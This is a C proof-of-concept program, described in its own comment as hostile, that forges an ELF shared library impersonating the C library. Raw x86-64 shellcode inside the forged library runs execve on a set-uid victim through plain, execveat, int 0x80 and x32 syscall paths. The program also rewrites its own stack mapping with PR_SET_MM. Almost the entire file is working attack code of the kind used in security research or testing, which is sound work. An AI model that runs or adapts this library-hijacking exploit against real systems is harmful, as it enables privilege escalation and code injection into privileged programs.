// SPDX-License-Identifier: Apache-2.0
// A hostile program: what it shows as its C library is its own, and the thread that is borrowed
// executes a set-uid program in the middle of the load.
//
//   execs LIBRARY VICTIM HOW
//
// LIBRARY: where to write the file, a name that a C library has. VICTIM: the set-uid program
// (set_uid.c). HOW: plain, execveat, int80, x32 (the way into the kernel), spin (after the tracer
// began to interrupt it). Prints "ready" and the pid of a child that shares its memory, so that the
// memory outlives the exec; both sleep until they are killed.
#define _GNU_SOURCE
#include <elf.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <unistd.h>

// MARKED and WORK: set_uid.c. Everything lies under 4 GiB, for int 0x80.
enum { BASE = 0x10000, MARKED = 0x500000, SIZE = 0x510000, WORK = 0x600000, STACK = 0x110000 };
enum {
	DYNAMIC = 0x100,
	HASH = 0x200,
	STRINGS = 0x300,
	SYMBOLS = 0x400,
	STUB = 0x800,
	CODE = 0x840,
	PATH = 0x900
};
static unsigned char library[0x2000];

static uint32_t hash(const char *name)
{
	uint32_t value = 5381;
	while (*name)
		value = value * 33 + (unsigned char)*name++;
	return value;
}

static void export(uint32_t index, uint32_t count, const char *name, uint64_t value)
{
	static uint32_t text = 1;
	uint32_t link = (hash(name) & ~1u) | (index == count);
	memcpy(library + HASH + 0x18 + 4 * index, &link, 4);
	strcpy((char *)library + STRINGS + text, name);
	Elf64_Sym symbol = {text, ELF64_ST_INFO(STB_GLOBAL, STT_FUNC), 0, 1, value, 16};
	memcpy(library + SYMBOLS + sizeof symbol * index, &symbol, sizeof symbol);
	text += strlen(name) + 1;
}

static void add(unsigned char **at, const char *code, size_t size)
{
	memcpy(*at, code, size);
	*at += size;
}

#define ADD(code) add(&at, code, sizeof(code) - 1)

static void write_code(const char *how)
{
	unsigned char *at = library + CODE;
	if (!strcmp(how, "spin"))			     // longer than a lock is waited for
		ADD("\xb9\xff\xff\xff\x03\xff\xc9\x75\xfc"); // mov $0x3ffffff,%ecx; 1: dec %ecx; jnz 1b
	if (!strcmp(how, "int80"))			     // execve(PATH, NULL, NULL)
		ADD("\xbb\x00\x09\x01\x00\x31\xc9\x31\xd2\xb8\x0b\x00\x00\x00\xcd\x80");
	else if (!strcmp(how, "execveat")) // execveat(AT_FDCWD, PATH, NULL, NULL, 0)
		ADD("\xbf\x9c\xff\xff\xff\xbe\x00\x09\x01\x00\x31\xd2\x4d\x31\xd2\x4d\x31\xc0"
		    "\xb8\x42\x01\x00\x00\x0f\x05");
	else {
		ADD("\xbf\x00\x09\x01\x00\x31\xf6\x31\xd2"); // execve(PATH, NULL, NULL)
		if (!strcmp(how, "x32"))
			ADD("\xb8\x08\x02\x00\x40\x0f\x05"); // the kernel may not have it
		ADD("\xb8\x3b\x00\x00\x00\x0f\x05");
	}
	ADD("\xb8\x3c\x00\x00\x00\x0f\x05"); // exit
}

static void write_library(const char *file, const char *victim, const char *how)
{
	Elf64_Ehdr header = {.e_ident = ELFMAG "\x02\x01\x01",
			     .e_type = ET_DYN,
			     .e_machine = EM_X86_64,
			     .e_version = 1,
			     .e_phoff = 64,
			     .e_ehsize = 64,
			     .e_phentsize = 56,
			     .e_phnum = 1};
	Elf64_Phdr dynamic = {PT_DYNAMIC, PF_R | PF_W, DYNAMIC, DYNAMIC, DYNAMIC, 0x100, 0x100, 8};
	Elf64_Dyn entries[] = {{DT_GNU_HASH, {HASH}},
			       {DT_STRTAB, {STRINGS}},
			       {DT_SYMTAB, {SYMBOLS}},
			       {DT_STRSZ, {0x100}},
			       {DT_NULL, {0}}};
	uint32_t table[] = {1, 1, 1, 0, 0, 0, 1}; // one bucket, which begins with symbol 1
	memcpy(library, &header, sizeof header);
	memcpy(library + 64, &dynamic, sizeof dynamic);
	memcpy(library + DYNAMIC, entries, sizeof entries);
	memcpy(library + HASH, table, sizeof table);
	export(1, 4, "dlopen", MARKED - BASE);
	export(2, 4, "_IO_list_lock", CODE);
	export(3, 4, "_IO_list_unlock", STUB + 10);
	export(4, 4, "getppid", STUB + 10);
	memcpy(library + STUB, "\x48\xc7\xc0\x0f\x00\x00\x00\x0f\x05\xc3", 10);
	write_code(how);
	strcpy((char *)library + PATH, victim);
	int fd = open(file, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	int all = PROT_READ | PROT_WRITE | PROT_EXEC;
	if (fd < 0 || write(fd, library, sizeof library) < 0 || ftruncate(fd, SIZE) ||
	    mmap((void *)BASE, SIZE, all, MAP_PRIVATE | MAP_FIXED, fd, 0) == MAP_FAILED)
		exit(1);
	close(fd);
}

/// The kernel then shows the memory at WORK as the main thread's stack.
static void move_stack(void)
{
	uint64_t field[53] = {0};
	char text[4096] = "";
	int fd = open("/proc/self/stat", O_RDONLY | O_CLOEXEC), i = 3;
	if (read(fd, text, sizeof text - 1) < 0)
		exit(1);
	close(fd);
	for (char *t = strtok(strrchr(text, ')') + 2, " "); t && i < 53; t = strtok(NULL, " "))
		field[i++] = strtoull(t, NULL, 10);
	struct prctl_mm_map map = {
		.start_code = field[26],
		.end_code = field[27],
		.start_stack = WORK + 0xf1000,
		.start_data = field[45],
		.end_data = field[46],
		.start_brk = field[47],
		.brk = (uintptr_t)sbrk(0),
		.arg_start = field[48],
		.arg_end = field[49],
		.env_start = field[50],
		.env_end = field[51],
		.exe_fd = -1,
	};
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0))
		exit(1);
}

static int keeps(void *arg)
{
	(void)arg;
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 1;
	int rw = PROT_READ | PROT_WRITE, flags = MAP_PRIVATE | MAP_ANONYMOUS;
	char *other = mmap(NULL, 1 << 16, rw, flags, -1, 0);
	void *stack = mmap((void *)WORK, STACK, rw, flags | MAP_FIXED_NOREPLACE, -1, 0);
	if (stack != (void *)WORK || other == MAP_FAILED)
		return 1;
	memset(stack, 0, STACK);
	int keeper = clone(keeps, other + (1 << 16), CLONE_VM, NULL);
	write_library(argv[1], argv[2], argv[3]);
	move_stack();
	printf("ready %d\n", keeper);
	fflush(stdout);
	__asm__ volatile("mov %0, %%rsp\n"
			 "1: mov $34, %%eax\n" // pause
			 "syscall\n"
			 "jmp 1b"
			 :
			 : "r"((uint64_t)WORK + 0xf0000)
			 : "memory", "rax", "rcx", "r11");
}
